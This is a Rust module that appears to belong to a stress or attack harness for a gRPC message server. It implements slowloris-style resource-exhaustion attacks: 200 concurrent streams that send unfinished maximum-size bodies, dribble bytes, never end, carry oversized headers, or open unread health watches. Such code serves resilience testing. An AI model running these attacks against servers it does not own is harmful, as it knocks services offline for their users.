//! Attacks that hold the server's memory by requests that never end.

use std::{sync::Arc, time::Duration};

use bytes::Bytes;
use tokio::task::JoinSet;

use super::{
    Ended,
    calls::{
        CONSUME, Head, PUBLISH, PUBLISH_STREAM, WATCH, declared, open_consume, open_publish, prefixed,
        publish,
    },
    line::{Line, OPEN},
    target::Target,
};

/// The largest gRPC message that the server accepts.
pub(super) const LARGEST: usize = 4 << 20;
/// The concurrent calls that the server accepts on one connection.
pub(super) const SLOTS: usize = 200;
/// The wait before a call that has ended is made again.
const PAUSE: Duration = Duration::from_millis(100);
/// The interval between two bytes of a body that goes on without an end.
const DRIBBLE: Duration = Duration::from_secs(2);

/// Repeats an attack on many streams of one connection.
pub(super) async fn slots<F>(
    target: Target,
    window: u32,
    count: usize,
    slot: impl Fn(Arc<Line>, Target, usize) -> F + Clone + Send + 'static,
) -> Result<(), Ended>
where
    F: Future<Output = Result<(), Ended>> + Send,
{
    let line = Arc::new(Line::with_window(&target, window).await?);
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (line, target, slot) = (Arc::clone(&line), target.clone(), slot.clone());
        tasks.spawn(async move {
            loop {
                if let Err(why) = slot(Arc::clone(&line), target.clone(), number).await {
                    return why;
                }
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    match tasks.join_next().await {
        Some(Ok(why)) => Err(why),
        _ => Err("the attacker failed".to_owned()),
    }
}

/// How far a body is sent.
#[derive(Clone, Copy)]
pub(super) struct Body {
    /// The method.
    pub(super) path: &'static str,
    /// Whether the call has a token.
    pub(super) token: bool,
    /// How many of the declared bytes are sent.
    pub(super) bytes: usize,
    /// Whether the body goes on, a byte now and then.
    pub(super) dribbles: bool,
}

impl Body {
    /// A body without the last byte of the largest message.
    pub(super) const fn less_one(path: &'static str) -> Self {
        Self { path, token: true, bytes: LARGEST - 1, dribbles: false }
    }
}

/// Sends bodies that declare the largest message and stop before its end.
pub(super) async fn unfinished(target: Target, body: Body) -> Result<(), Ended> {
    let bytes: Bytes = [&declared(LARGEST)[..], &vec![0; body.bytes]].concat().into();
    slots(target, OPEN, SLOTS, move |line, target, _| {
        let bytes = bytes.clone();
        async move {
            let id = line.begin(&Head::new(body.path, body.token.then_some(&*target.token)), false).await?;
            line.body(id, &first(body.path), false).await?;
            line.body(id, &bytes, false).await?;
            target.tally.add(1);
            if body.dribbles {
                dribble(&line, id).await?;
            }
            line.end(id).await.map(drop)
        }
    })
    .await
}

/// Sends a byte now and then until the stream ends.
async fn dribble(line: &Line, id: u32) -> Result<(), Ended> {
    while line.body(id, &[0], false).await? > 0 {
        tokio::time::sleep(DRIBBLE).await;
    }
    Ok(())
}

/// The first message of a method's stream; each consume stream is a session of its own.
pub(super) fn first(path: &str) -> Bytes {
    match path {
        PUBLISH_STREAM => open_publish(),
        CONSUME => open_consume(rand::random(), 0),
        _ => Bytes::new(),
    }
}

/// Sends calls whose one message is complete and whose side stays open.
pub(super) async fn unended(target: Target) -> Result<(), Ended> {
    let bytes = publish(&[1 << 20, 1 << 20, 1 << 20]);
    slots(target, OPEN, SLOTS, move |line, target, _| {
        let bytes = bytes.clone();
        async move {
            let id = line.begin(&Head::of(&target, PUBLISH), false).await?;
            line.body(id, &bytes, false).await?;
            target.tally.add(1);
            line.end(id).await.map(drop)
        }
    })
    .await
}

/// Opens streams without their first message.
pub(super) async fn before_open(target: Target) -> Result<(), Ended> {
    slots(target, OPEN, SLOTS, move |line, target, number| async move {
        let path = if number % 2 == 0 { CONSUME } else { PUBLISH_STREAM };
        let id = line.begin(&Head::of(&target, path), false).await?;
        target.tally.add(1);
        line.end(id).await.map(drop)
    })
    .await
}

/// Opens streams with as many headers as are allowed, and without their first message.
pub(super) async fn large_headers(target: Target) -> Result<(), Ended> {
    slots(target, OPEN, SLOTS, move |line, target, _| async move {
        let head = Head::of(&target, PUBLISH_STREAM).with("x-large", &"l".repeat(14_000));
        let id = line.begin(&head, false).await?;
        target.tally.add(1);
        line.end(id).await.map(drop)
    })
    .await
}

/// Opens health watches and does not read them.
pub(super) async fn watches(target: Target) -> Result<(), Ended> {
    slots(target, 0, SLOTS, move |line, target, _| async move {
        let id = line.begin(&Head::new(WATCH, None), false).await?;
        line.body(id, &prefixed(&[]), true).await?;
        target.tally.add(1);
        line.end(id).await.map(drop)
    })
    .await
}
